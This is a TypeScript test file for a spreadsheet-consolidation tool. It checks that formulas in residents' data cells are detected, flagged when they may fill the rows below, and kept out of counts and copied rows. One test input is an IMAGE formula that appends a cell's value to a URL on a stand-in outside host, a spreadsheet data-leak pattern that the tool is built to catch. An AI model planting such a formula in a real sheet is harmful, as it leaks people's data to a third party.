import { firstFiller, formulaFunction } from '../../src/core/formula-cells';
import { consolidateUnits, rowsWithoutFormulaValues, type UnitSheetInput } from '../../src/core/consolidate';
import type { Unit } from '../../src/core/units';

describe('a formula in a unit’s data cells (issue 25)', () => {
  it('is named by the import or network function it calls first, else by its first function', () => {
    expect(formulaFunction('=IMPORTRANGE("1AbC";"Danh sách tổng hợp!A:K")')).toBe('IMPORTRANGE');
    expect(formulaFunction('=UPPER(IMAGE("https://x.example/?"&B8))')).toBe('IMAGE');
    expect(formulaFunction('=_xlfn.IMPORTXML("https://x";"//a")')).toBe('IMPORTXML');
    expect(formulaFunction('=UPPER("importrange(")')).toBe('UPPER');
    expect(formulaFunction('=B8')).toBe('');
  });

  it('may have filled the rows below when its result can be an array', () => {
    const at = (formula: string) => firstFiller([{ row: 9, column: 2, formula }]);
    expect(at('=ARRAYFORMULA(Nguon!A1:A3&"")')).not.toBeNull();
    expect(at('=IMPORTRANGE("x";"y")')).not.toBeNull();
    expect(at('={"Vũ Văn Em"\\1975}')).not.toBeNull();
    expect(at('=Nguon!A1:D3')).not.toBeNull();
    expect(at('=INDIRECT("Nguon!A1")')).not.toBeNull();
    expect(at('=B8')).toBeNull();
    expect(at('=UPPER("a:b")')).toBeNull();
  });

  const unit: Unit = {
    code: 'TDP01',
    name: 'Tổ dân phố số 1',
    type: 'Tổ dân phố',
    target: 10,
    emails: [],
    manager: '',
    phone: '',
    parentBody: '',
    signer: { title: [], note: '' },
    configRow: 14,
    fileId: '',
  };
  const input = (formulas: UnitSheetInput['formulas']): UnitSheetInput => ({
    unit,
    state: 'ok',
    tab: 'Tổ dân phố số 1',
    sheetId: 1,
    url: '',
    firstDataRow: 8,
    rows: [
      [1, 'Nguyễn Văn An', 1980, '', 'TDP 1', ''],
      [2, 'VŨ VĂN EM', 1975, '', 'TDP 1', ''],
      [3, 'Trần Thị Bình', 1982, '', 'TDP 1', ''],
    ],
    lastUpdated: '',
    formulas,
  });

  it('takes its row out of the count, and every row under one that may fill them', () => {
    const scalar = consolidateUnits([input([{ row: 9, column: 2, formula: '=UPPER("vũ văn em")' }])], 2026);
    expect(scalar.units[0].counts).toMatchObject({ rows: 3, valid: 2, errors: 1 });
    const array = consolidateUnits(
      [input([{ row: 9, column: 2, formula: '=ARRAYFORMULA(X1:X2&"")' }])],
      2026
    );
    expect(array.units[0].counts).toMatchObject({ rows: 3, valid: 1, errors: 2 });
    expect(array.problems.filter((p) => p.code.startsWith('FORMULA')).map((p) => [p.row, p.code])).toEqual([
      [9, 'FORMULA_CELL'],
      [10, 'FORMULA_FILLED'],
    ]);
    expect(JSON.stringify(array.units[0].entries.map((e) => e.checked))).not.toContain('VŨ VĂN EM');
  });

  it('leaves its text, never its value, in the rows a conversion copies', () => {
    const rows = rowsWithoutFormulaValues(input([{ row: 9, column: 2, formula: '=ARRAYFORMULA(X1:X2&"")' }]));
    expect(rows[1]).toEqual([2, '=ARRAYFORMULA(X1:X2&"")', '', '', '', '']);
    expect(rows[2]).toEqual([3, '', '', '', '', '']);
    expect(rows[0]).toEqual([1, 'Nguyễn Văn An', 1980, '', 'TDP 1', '']);
  });
});
